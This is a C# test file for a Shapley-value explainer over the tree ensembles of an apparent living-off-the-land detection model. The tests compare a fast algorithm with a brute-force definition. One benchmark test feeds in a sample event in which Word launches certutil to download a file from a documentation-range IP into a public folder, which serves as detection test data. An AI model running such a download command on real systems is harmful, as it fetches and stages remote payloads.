using System.Diagnostics;
using System.Numerics;
using Changeling.Scoring;
using Changeling.TestSupport;
using CsCheck;

namespace Changeling.Training.Tests;

public class ShapleyValuesTests
{
    private const int Features = 5;

    /// <summary>A random tree over five features, with what training rows would have left in it.</summary>
    private static readonly Gen<TreeEnsemble> Trees =
        from seed in Gen.Int[0, int.MaxValue - 1]
        from trees in Gen.Int[1, 3]
        select RandomTrees.Of(new Random(seed), trees, Features, maxDepth: 5, c => c.NextSingle());

    [Fact]
    public void The_values_are_the_mean_over_all_orders_in_which_features_become_known() =>
        Trees.SelectMany(_ => Gen.Float[0, 1].Array[Features], (t, x) => (Trees: t, Event: x)).Sample(
            sample =>
            {
                var fast = Values(sample.Trees, sample.Event);
                var slow = Slow(sample.Trees, sample.Event);
                for (var f = 0; f < Features; f++) Assert.Equal(slow[f], fast[f], 1e-9);
            },
            iter: 500);

    /// <summary>More features on a path than one vector of points is exact for.</summary>
    [Fact]
    public void Deep_trees_of_many_features_have_the_same_mean()
    {
        const int many = 11;
        for (var seed = 0; seed < 4; seed++)
        {
            var chance = new Random(seed);
            var trees = RandomTrees.Of(chance, 2, many, maxDepth: 14, c => c.NextSingle());
            float[] x = [.. Enumerable.Range(0, many).Select(_ => chance.NextSingle())];

            var (slow, fast) = (Slow(trees, x), Values(trees, x));

            for (var f = 0; f < many; f++) Assert.Equal(slow[f], fast[f], 1e-12);
        }
    }

    [Theory]
    [InlineData(0.4f)]
    [InlineData(0.6f)]
    public void A_path_of_31_features_sums_to_the_margin(float value)
    {
        var inner = Enumerable.Range(0, 63).Select(n => n % 2 == 0 && n < 62).ToArray();
        var leaves = Enumerable.Range(0, 63).Select(n => Math.Sin(n)).ToArray();
        for (var n = 60; n >= 0; n -= 2) leaves[n] = (0.3 * leaves[n + 1]) + (0.7 * leaves[n + 2]);
        var chain = new TreeEnsemble
        {
            Roots = [0],
            Feature = [.. inner.Select((isInner, n) => isInner ? n / 2 : -1)],
            Threshold = [.. inner.Select(_ => 0.5f)],
            Left = [.. Enumerable.Range(1, 63)],
            Right = [.. Enumerable.Range(2, 63)],
            Value = leaves,
        };
        float[] x = [.. Enumerable.Range(0, 31).Select(f => f % 3 == 0 ? 1 - value : value)];

        Assert.Equal(chain.Margin(x), chain.Expectation + Values(chain, x).Sum(), 1e-12);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Both_ways_sum_with_the_expectation_to_the_margin(bool isExact) =>
        Trees.SelectMany(_ => Gen.Float[0, 1].Array[Features], (t, x) => (Trees: t, Event: x)).Sample(
            sample =>
            {
                var changes = new double[Features];
                if (isExact) sample.Trees.AddContributions(sample.Event, changes);
                else sample.Trees.AddPathChanges(sample.Event, changes);
                Assert.Equal(sample.Trees.Margin(sample.Event), sample.Trees.Expectation + changes.Sum(), 1e-9);
            },
            iter: 500);

    /// <summary>The fault of changes along a path: of two features that mean the same, the lower split would get more.</summary>
    [Fact]
    public void Two_features_that_matter_alike_get_the_same_wherever_they_stand_in_the_tree()
    {
        // Malicious (8) only when both are set; a quarter of the rows in each corner.
        var both = new TreeEnsemble
        {
            Roots = [0],
            Feature = [0, 1, -1, -1, 1, -1, -1],
            Threshold = [0.5f, 0.5f, 0, 0, 0.5f, 0, 0],
            Left = [1, 2, 0, 0, 5, 0, 0],
            Right = [4, 3, 0, 0, 6, 0, 0],
            Value = [2, 0.1, 0, 0.2, 3.9, 0, 7.8],
        };

        var values = Values(both, [1, 1]);

        Assert.Equal(values[0], values[1], 0.11);
    }

    [Fact]
    public void A_branch_that_no_training_row_took_does_no_harm()
    {
        var trees = new TreeEnsemble
        {
            Roots = [0],
            Feature = [0, -1, 0, -1, -1],
            Threshold = [0.5f, 0, 0.8f, 0, 0],
            Left = [1, 0, 3, 0, 0],
            Right = [2, 0, 4, 0, 0],
            Value = [1, 1, 5, 5, 7],
        };

        Assert.All(new[] { 0.2f, 0.6f, 0.9f }, x =>
            Assert.Equal(trees.Margin([x]), trees.Expectation + Values(trees, [x]).Sum(), 1e-9));
    }

    /// <summary>Manual run: a figure of this machine, and no assertion on its clock.</summary>
    [Fact(Explicit = true)]
    public void How_long_the_shipped_trees_take_to_be_explained()
    {
        var model = new MlModel(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));
        var e = Some.ProcessEvent(
            "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
        for (var i = 0; i < 20; i++) model.Explain(e).Reasons(10);

        // The best of some: a machine with other work to do slows down the others.
        var best = Enumerable.Range(0, 30).Min(_ =>
        {
            var time = Stopwatch.StartNew();
            model.Explain(e).Reasons(10);
            return time.Elapsed.TotalMilliseconds;
        });

        TestContext.Current.TestOutputHelper?.WriteLine($"{best:0.00} ms an event");
    }

    private static double[] Values(TreeEnsemble trees, float[] x)
    {
        var sums = new double[x.Length];
        new ShapleyValues(trees).Add(x, sums);
        return sums;
    }

    /// <summary>By definition: over all subsets of the other features, what knowing this one changes.</summary>
    private static double[] Slow(TreeEnsemble trees, float[] x)
    {
        var features = x.Length;
        var values = new double[features];
        for (var subset = 0; subset < 1 << features; subset++)
        {
            for (var f = 0; f < features; f++)
            {
                if ((subset >> f & 1) != 0) continue;
                var size = BitOperations.PopCount((uint)subset);
                var weight = Factorial(size) * Factorial(features - size - 1) / Factorial(features);
                values[f] += weight * (Expected(trees, x, subset | 1 << f) - Expected(trees, x, subset));
            }
        }

        return values;
    }

    private static double Expected(TreeEnsemble trees, float[] x, int known) => trees.Roots.Sum(root => Expected(trees, root, x, known));

    private static double Expected(TreeEnsemble t, int node, float[] x, int known)
    {
        if (t.Feature[node] < 0) return t.Value[node];
        var (left, right) = (t.Left[node], t.Right[node]);
        if ((known >> t.Feature[node] & 1) != 0) return Expected(t, x[t.Feature[node]] <= t.Threshold[node] ? left : right, x, known);
        var share = Math.Abs(t.Value[left] - t.Value[right]) < 1e-12
            ? 0.5
            : Math.Clamp((t.Value[node] - t.Value[right]) / (t.Value[left] - t.Value[right]), 0, 1);
        return (share * Expected(t, left, x, known)) + ((1 - share) * Expected(t, right, x, known));
    }

    private static double Factorial(int n) => n < 2 ? 1 : n * Factorial(n - 1);
}
